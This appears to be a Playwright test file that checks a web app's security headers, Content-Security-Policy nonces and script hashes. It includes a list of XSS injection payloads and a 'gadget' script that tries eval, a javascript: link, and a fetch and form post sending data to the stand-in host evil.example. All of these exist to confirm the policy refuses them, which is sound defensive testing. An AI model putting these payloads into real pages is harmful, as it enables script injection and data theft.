import { createHash } from "node:crypto";
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test, type Page, type Server } from "../fixtures";
import { complaintsOf, isComplaint, openAlive } from "../support/console-errors";
import { recordOf, sealedSession, send } from "../support/http";
import { addPerson } from "../support/users";
import { membersPages, openPages } from "../support/routes";

const policyOf = (response: Response): string =>
  response.headers.get("content-security-policy") ?? "";

const answers: readonly (readonly [
  what: string,
  path: string,
  status: number,
  init?: RequestInit,
])[] = [
  ["the home page", "/", 200],
  ["a page for a crawler", "/", 200, { headers: { accept: "*/*", "user-agent": "Googlebot" } }],
  ["the head of a page", "/login", 200, { method: "HEAD" }],
  ["a whole page", "/login", 200, { headers: { cookie: "__Host-noscript=1" } }],
  ["a soft navigation", "/login?_rsc", 200, { headers: { rsc: "1" } }],
  ["a redirect of the guard", "/account", 307],
  ["an unknown page", "/nowhere", 404],
  ["an unknown page with a file ending", "/nowhere.html", 404],
  ["a malformed path", "/%", 404],
  ["a method that pages do not support", "/login", 405, { method: "PUT" }],
  [
    "an unknown action",
    "/login",
    400,
    { method: "POST", headers: { "next-action": "40abc", "content-type": "text/plain" } },
  ],
  ["a handler", "/api/session", 200],
  ["a handler that refuses the body", "/api/login", 400, { method: "POST", body: "not JSON" }],
  ["a handler with the wrong method", "/api/session", 405, { method: "PUT" }],
  ["an unknown handler", "/api/nowhere", 404],
  ["a picture", "/icon.svg", 200],
  ["an unknown picture", "/nowhere.png", 404],
  ["a stylesheet", "/assets/noscript.css", 200],
  ["the stylesheet for browsers without JavaScript", "/api/noscript", 200],
  ["an unknown script", "/_next/static/nowhere.js", 404],
];

for (const [what, path, status, init] of answers) {
  test(`${what} is sent with the security headers`, async ({ server }) => {
    const response = await send(server, path, init);
    expect(response.status).toBe(status);
    const directives = policyOf(response).split("; ");
    for (const directive of ["default-src", "object-src", "base-uri", "frame-ancestors"]) {
      expect(directives).toContain(`${directive} 'none'`);
    }
    expect(directives).toContain("form-action 'self'");
    // A comma would separate a second policy, and browsers enforce the intersection.
    expect(policyOf(response)).not.toMatch(/,|unsafe|\*|https?:|undefined/);
    expect(response.headers.get("strict-transport-security")).toBe(
      "max-age=63072000; includeSubDomains",
    );
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    expect(response.headers.get("referrer-policy")).toBe("strict-origin-when-cross-origin");
    expect(response.headers.get("cross-origin-opener-policy")).toBe("same-origin");
  });
}

/** The scripts of a page that its policy refuses: no file of this site, no nonce and no known hash. */
function refusedScripts(html: string, policy: string): string[] {
  const nonce = /'nonce-([^']+)'/.exec(policy)?.[1] ?? "no nonce";
  const scripts = [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)];
  expect(scripts.length).toBeGreaterThan(5);
  return scripts
    .filter(([, attributes = "", text = ""]) => {
      if (attributes.includes(`nonce="${nonce}"`)) return false;
      if (!text) return !attributes.includes('src="/_next/static/');
      return !policy.includes(createHash("sha256").update(text).digest("base64"));
    })
    .map(([script]) => script);
}

test("the policy of every page allows every script of it, streamed or whole", async ({
  server,
}) => {
  const member = {
    cookie: await sealedSession(server, recordOf(await addPerson(server.databaseUrl, "Eve"))),
  };
  const whole = { cookie: "__Host-noscript=1" };
  for (const path of [...openPages, ...membersPages, "/nowhere"]) {
    for (const headers of [{}, whole, member]) {
      const response = await fetch(new URL(path, server.origin), { headers });
      expect(refusedScripts(await response.text(), policyOf(response)), path).toEqual([]);
    }
  }
});

test("a page begins with its static shell, which has no nonce", async ({ server }) => {
  for (const path of openPages) {
    const response = await send(server, path);
    const text = await response.text();
    const nonce = /'nonce-([^']+)'/.exec(policyOf(response))?.[1] ?? "no nonce";
    expect(text.indexOf(nonce), path).toBeGreaterThan(text.indexOf("</footer>"));
    expect(text.indexOf("</footer>"), path).toBeGreaterThan(0);
  }
});

test("a nonce has 128 bits, is used once and cannot be chosen by the client", async ({
  server,
}) => {
  const chosen = "script-src 'nonce-chosen'";
  const nonces = new Set<string>();
  for (let times = 0; times < 20; times++) {
    const response = await send(server, "/login", {
      headers: { "content-security-policy": chosen },
    });
    const nonce = /'nonce-([A-Za-z0-9+/]{22}==)'/.exec(policyOf(response))?.[1];
    expect(nonce).toBeDefined();
    nonces.add(nonce ?? "");
    expect(await response.text()).not.toContain("chosen");
  }
  expect(nonces.size).toBe(20);
});

test("a guest visits every page without a violation and every page hydrates", async ({ page }) => {
  const complaints = await complaintsOf(page);
  for (const path of [...openPages, "/login?next=%2Faccount", "/nowhere", "/nowhere.html"]) {
    await openAlive(page, path);
    expect(complaints, path).toEqual([]);
  }
  await page.getByRole("link", { name: "Home page" }).click();
  await page.getByRole("link", { name: "Sign up" }).click();
  await page.getByRole("button", { name: "Sign up" }).click();
  await expect(page.getByText("Enter your name.")).toBeVisible();
  await page.goBack();
  await page.reload();
  await page.goForward();
  await expect(page.getByRole("button", { name: "Sign up" })).toBeVisible();
  expect(complaints).toEqual([]);
});

test("a signed-in user visits every page without a violation", async ({ page, loggedInAs }) => {
  const { name } = await loggedInAs("Fay");
  const complaints = await complaintsOf(page);
  for (const path of [...openPages, ...membersPages]) await openAlive(page, path);
  await page.goto("/account");
  await page.getByLabel("Name").fill(`${name} the Second`);
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await expect(page.locator("[data-flash]")).toBeVisible();
  await page.getByRole("link", { name: "Log out" }).click();
  await page.getByRole("button", { name: "Log out" }).click();
  await expect(page.getByText("You are not logged in.")).toBeVisible();
  expect(complaints).toEqual([]);
});

test.describe("without JavaScript", () => {
  test.use({ javaScriptEnabled: false });

  test("pages and forms work without a violation", async ({ page }) => {
    const complaints: string[] = [];
    page.on("console", (message) => {
      if (isComplaint(message)) complaints.push(message.text());
    });
    for (const path of [...openPages, "/signup"]) await page.goto(path);
    await page.getByRole("button", { name: "Sign up" }).click();
    await expect(page.getByText("Enter your name.")).toBeVisible();
    expect(complaints).toEqual([]);
  });
});

/** Markup that an injection could add to a page. Each script would change the title. */
const injections: readonly (readonly [what: string, html: string, refusedBy: string])[] = [
  ["an inline script", `<script>document.title="pwned"</script>`, "script-src-elem"],
  [
    "a script with an old nonce",
    `<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">document.title="pwned"</script>`,
    "script-src-elem",
  ],
  [
    "a script from elsewhere",
    `<script src="https://evil.example/pwn.js"></script>`,
    "script-src-elem",
  ],
  [
    "a script in a data: URL",
    `<script src="data:text/javascript,document.title='pwned'"></script>`,
    "script-src-elem",
  ],
  [
    "an event handler attribute",
    `<img src="/nowhere.svg" onerror="document.title='pwned'">`,
    "script-src-attr",
  ],
  ["a style attribute", `<p style="position:fixed;inset:0">Log in here</p>`, "style-src-attr"],
  [
    "a stylesheet from elsewhere",
    `<link rel="stylesheet" href="https://evil.example/pwn.css">`,
    "style-src-elem",
  ],
  ["a tracking picture", `<img src="https://evil.example/seen.gif">`, "img-src"],
  ["another base URL", `<base href="https://evil.example/">`, "base-uri"],
  ["an iframe", `<iframe src="https://evil.example/"></iframe>`, "frame-src"],
  ["a plug-in object", `<object data="https://evil.example/pwn"></object>`, "object-src"],
];

async function openWith(page: Page, server: Server, html: string): Promise<void> {
  await page.route(`${server.origin}/login`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({
      response,
      body: (await response.text()).replace("</main>", `${html}</main>`),
    });
  });
  await page.goto("/login");
}

for (const [what, html, refusedBy] of injections) {
  test(`the policy refuses ${what}`, async ({ page, server }) => {
    const complaints = await complaintsOf(page);
    await page.route("https://evil.example/**", () =>
      complaints.push("evil.example was requested"),
    );
    await openWith(page, server, html);
    await expect.poll(() => complaints.join()).toContain(refusedBy);
    expect(complaints).not.toContain("evil.example was requested");
    await expect(page).toHaveTitle("Log in · Signet");
  });
}

/** What an attacker could make one of this site's scripts do. It runs as a file of this site. */
const gadget = `
  const attempt = (name, work) => work().then(() => reportViolation(name + " worked"), () => reportViolation(name + " was refused"));
  attempt("eval", async () => eval("1"));
  attempt("Function", async () => new Function("return 1")());
  attempt("fetch", () => fetch("https://evil.example/?password"));
  Object.assign(document.createElement("a"), { href: "javascript:reportViolation('javascript: worked')" }).click();
  const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
  document.body.append(form);
  form.submit();
`;

test("a script of this site can neither run text nor send data to another site", async ({
  page,
}) => {
  const complaints = await complaintsOf(page);
  await page.route("https://evil.example/**", () => complaints.push("evil.example was requested"));
  await page.route("/gadget.js", (route) =>
    route.fulfill({ contentType: "text/javascript", body: gadget }),
  );
  await page.goto("/login");
  await page.evaluate(() =>
    document.body.append(Object.assign(document.createElement("script"), { src: "/gadget.js" })),
  );
  const refusals = [
    "eval was refused",
    "Function was refused",
    "fetch was refused",
    "script-src-elem inline",
    "form-action",
  ];
  for (const refusal of refusals) await expect.poll(() => complaints.join("\n")).toContain(refusal);
  expect(complaints.join("\n")).not.toMatch(/worked|evil.example was requested/);
});

test("another site cannot show a page in a frame", async ({ page, server }) => {
  const ours = `${server.origin}/login`;
  const evil = createServer((_, response) =>
    response.end(`<!doctype html><iframe src="${ours}"></iframe>`),
  );
  await once(evil.listen(0, "127.0.0.1"), "listening");
  const refused = page.waitForEvent("requestfailed", (request) => request.url() === ours);
  await page.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`);
  expect((await refused).failure()?.errorText).toBe("net::ERR_BLOCKED_BY_RESPONSE");
  evil.close();
});
